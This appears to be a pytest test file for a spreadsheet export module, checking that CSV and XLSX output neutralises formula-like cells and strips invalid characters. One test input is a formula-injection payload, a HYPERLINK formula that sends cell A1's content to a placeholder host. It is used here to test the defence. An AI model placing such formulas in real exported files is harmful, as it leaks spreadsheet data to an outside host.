import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from mentora.core.spreadsheets import Sheet, cell_value, csv_text, xlsx_bytes


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/?"&A1,"Priya")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
                                  "\r=1", "\uff1d1+1"])
def test_text_that_starts_like_a_formula_is_written_as_text(text):
    assert cell_value(text) == "'" + text


def test_other_values_are_unchanged():
    assert cell_value("Priya Raman") == "Priya Raman"
    assert cell_value("a=b") == "a=b"
    assert cell_value(-3) == -3 and cell_value(2.5) == 2.5 and cell_value(True) is True
    assert cell_value(None) == ""
    assert cell_value(datetime.date(2026, 7, 1)) == "2026-07-01"


def test_csv_has_a_byte_order_mark_and_neutralised_cells():
    text = csv_text([["=1+1", "Zoë", 3]], header=["name", "city", "n"])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["name", "city", "n"], ["'=1+1", "Zoë", "3"]]


def test_xlsx_never_holds_a_formula_and_drops_characters_it_cannot_hold():
    book = load_workbook(io.BytesIO(xlsx_bytes([
        Sheet("Members: [all]", [["=1+1", "a\x07b", 4]], header=["name", "note", "n"], preamble=[["=Caption"]]),
        Sheet("Members: [all]", [], header=["x"]),
    ])))
    assert [sheet.title for sheet in book.worksheets] == ["Members all", "Members all 2"]
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "'=Caption" and sheet["A1"].font.bold
    assert [c.value for c in sheet[3]] == ["'=1+1", "ab", 4]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
